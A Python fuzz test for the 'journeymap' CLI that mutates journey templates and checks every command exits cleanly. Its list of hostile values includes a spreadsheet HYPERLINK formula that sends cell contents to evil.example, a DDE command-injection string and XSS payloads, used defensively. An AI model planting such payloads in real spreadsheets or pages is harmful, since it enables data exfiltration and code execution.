"""Fuzzing the command line (issue 12): templates mutated at random, every command answers 0 or 2, never a
traceback.

Each example takes a built-in template and either puts hostile but valid values in it (names, owners,
titles and requirements that are formulas, HTML, line breaks or mathtext; extreme but legal numbers) or
applies one to four mutations to its document (a value replaced by a hostile one: huge, negative, not a
number, the wrong type, a formula, HTML, line breaks, a distribution that overflows; a key deleted, renamed
or added; a list item duplicated) and sometimes to its text (a control character, a cut, a stray
character), writes it as YAML or JSON, and runs ``validate``, ``info --json``,
``render`` (DOT and Mermaid), ``quickwins --method heuristic`` into an XLSX and, when the file is valid and
not absurd (a loop customers hardly leave is the run-size guard's business), a small ``simulate``. Each
command must exit with 0 or 2, print no traceback and finish within :data:`COMMAND_SECONDS`.

The number of examples is small by default (the whole test takes well under a minute);
``JOURNEYMAP_FUZZ_EXAMPLES=2000`` runs a longer campaign.
"""

from __future__ import annotations

import contextlib
import io
import json
import math
import os
import signal
import tempfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from journeymap.cli import main
from journeymap.io import check
from journeymap.io.catalog import template_path

EXAMPLES = int(os.environ.get("JOURNEYMAP_FUZZ_EXAMPLES", "20"))
COMMAND_SECONDS = 60
TEMPLATES = ("service_cycle", "telecom_outage", "clinic_appointment", "online_return_chat")

HOSTILE: list[Any] = [
    None, True, False, 0, -1, 1, 2, 0.5, 1e308, -1e308, 1e-320, math.inf, -math.inf, math.nan, 10**400,
    123456789012345678901234567890, "", " ", "x" * 300, "0", "-5 min", "1e308 h", "1e308 w", "1e-300/h", "30/h",
    "1e9/s", "09:00", "25:00", "24:00", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click me\")",
    "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
    "line\nbreak\r\nand\rreturn", "\u202eevil", "$\\frac{1}{0$", "Refund $5 or $10", "a | b \\| c", "ñandú ☎",
    [], {}, [1, "a", None], {"dist": "gamma"}, {"dist": "gamma", "mean": 1e156, "sd": 1e156},
    {"dist": "triangular", "low": 0, "mode": 0, "high": 1e308}, {"dist": "lognormal", "mean": 1, "sd": 1e-200},
    {"dist": "gamma", "mean": 1, "sd": 1e-200}, {"dist": "empirical", "values": []},
    {"dist": "empirical", "values": [1, "x"]}, {"dist": "exponential", "mean": "6 parsecs"},
    {"dist": "uniform", "low": 5, "high": 1}, {"p": 2}, {"p": 0.5, "delay": -3}, {"unknown": 1},
    {"until": "1e308", "rate": 1}, [{"until": 1e308, "rate": "1/h"}],
]
TEXTS = [text for text in HOSTILE if isinstance(text, str)]
TEXT_FIELDS = {"title", "name", "owner", "channel", "description", "notes"}
EXTREME = {"capacity": [1, 1_000_000], "service_time": ["1000 w", "1 s", 1e-9, "520 w"],
           "patience": ["1 s", "1000 w"], "rate": ["999999/h", "1e-6/h", 1e-9]}
"""Values a journey may hold (valid) but few would write."""
CHARACTERS = ["\x00", "\x07", "\x1b", "\x7f", "\ufeff", ":", "{", "[", "]", "'", '"', "&", "*", "!", "|", ">", "%",
              "@", "`", "\t", "\n", "#"]


def paths(document: Any, here: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Every place in the document: keys of mappings and indexes of lists, depth first."""
    if isinstance(document, dict):
        for key, value in document.items():
            yield (*here, key)
            yield from paths(value, (*here, key))
    elif isinstance(document, list):
        for index, value in enumerate(document):
            yield (*here, index)
            yield from paths(value, (*here, index))


def parent(document: Any, path: tuple[Any, ...]) -> Any:
    for step in path[:-1]:
        document = document[step]
    return document


@st.composite
def mutated(draw: st.DrawFn) -> tuple[str, str, str]:
    """(template, file suffix, file text) of a template with mutations."""
    name = draw(st.sampled_from(TEMPLATES))
    language = draw(st.sampled_from(["en", "es"]))
    document = yaml.safe_load(template_path(name, language).read_text(encoding="utf-8"))
    if draw(st.integers(0, 2)) == 0:  # hostile but valid: text that other programs might run, extreme numbers
        places = [p for p in paths(document) if p[-1] in TEXT_FIELDS or p[-1] in EXTREME
                  or (len(p) > 1 and p[-2] == "requirements")]
        for path in draw(st.lists(st.sampled_from(places), min_size=1, max_size=6)):
            key = path[-1]
            parent(document, path)[key] = draw(st.sampled_from(EXTREME.get(key, TEXTS)))
        return name, ".yaml", yaml.safe_dump(document, allow_unicode=True, sort_keys=False)
    for _ in range(draw(st.integers(1, 4))):
        path = draw(st.sampled_from(list(paths(document))))
        holder, last = parent(document, path), path[-1]
        operation = draw(st.sampled_from(["replace", "replace", "replace", "delete", "rename", "add", "copy"]))
        if operation == "replace":
            holder[last] = draw(st.sampled_from(HOSTILE))
        elif operation == "delete":
            del holder[last]
        elif operation == "rename" and isinstance(holder, dict):
            holder[draw(st.sampled_from(["nxet", "servce_time", "x" * 200, "1", "<b>", "=1+1"]))] = holder.pop(last)
        elif operation == "add" and isinstance(holder, dict):
            holder[draw(st.sampled_from(["capacity", "goal", "next", "rate", "schedule", "weird"]))] = draw(
                st.sampled_from(HOSTILE))
        elif operation == "copy" and isinstance(holder, list):
            holder.append(json.loads(json.dumps(holder[last], default=str)))
    suffix = draw(st.sampled_from([".yaml", ".yaml", ".json"]))
    if suffix == ".json":
        text = json.dumps(document, ensure_ascii=draw(st.booleans()), default=str)
    else:
        text = yaml.safe_dump(document, allow_unicode=True, sort_keys=False)
    if draw(st.integers(0, 4)) == 0:  # now and then, damage the text itself
        at = draw(st.integers(0, len(text)))
        how = draw(st.sampled_from(["insert", "cut", "replace"]))
        character = draw(st.sampled_from(CHARACTERS))
        text = text[:at] + character + text[at:] if how == "insert" else text[:at] if how == "cut" else (
            text[:at] + character + text[at + 1:])
    return name, suffix, text


class TookTooLong(Exception):
    """A command ran past :data:`COMMAND_SECONDS`."""


def run(args: list[str]) -> tuple[int, str]:
    """``journeymap ARGS`` in this process: its exit status and what it wrote to stderr."""
    def alarm(signum: int, frame: Any) -> None:
        raise TookTooLong(" ".join(args))

    previous = signal.signal(signal.SIGALRM, alarm)
    signal.alarm(COMMAND_SECONDS)
    out, err = io.StringIO(), io.StringIO()
    try:
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
            status = main(args)
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)
    return status, err.getvalue()


def may_simulate(path: Path) -> bool:
    """Valid, and with no loop customers hardly leave (the run-size guard's case, not this test's)."""
    report = check(path)
    return report.ok and not any("visits in the loop" in issue.message for issue in report.warnings)


@pytest.mark.slow
@settings(max_examples=EXAMPLES, deadline=None, suppress_health_check=list(HealthCheck))
@given(mutated())
def test_every_command_answers_0_or_2_without_a_traceback(case: tuple[str, str, str]) -> None:
    name, suffix, text = case
    with tempfile.TemporaryDirectory() as folder:
        out = Path(folder)
        journey = out / f"journey{suffix}"
        journey.write_text(text, encoding="utf-8", errors="surrogatepass")
        interventions = template_path(name, "en", kind="interventions")
        commands = [
            ["validate", str(journey)],
            ["info", str(journey), "--json"],
            ["render", str(journey), "--view", "cycle", "-o", str(out / "cycle.dot")],
            ["render", str(journey), "--view", "blueprint", "-o", str(out / "map.mmd")],
            ["quickwins", str(journey), "--interventions", str(interventions), "--method", "heuristic",
             "-o", str(out / "plan.xlsx")],
        ]
        if may_simulate(journey):
            commands.append(["simulate", str(journey), "--customers", "30", "--replications", "2", "--seed", "1",
                             "--events", str(out / "events.csv")])
        for args in commands:
            status, err = run(args)
            assert status in (0, 2), f"journeymap {' '.join(args)} exited {status}:\n{err}\n--- input ---\n{text}"
            assert "Traceback" not in err, f"journeymap {' '.join(args)}:\n{err}\n--- input ---\n{text}"
        assert not [p for p in out.iterdir() if ".journeymap-tmp" in p.name]  # no temporary file left
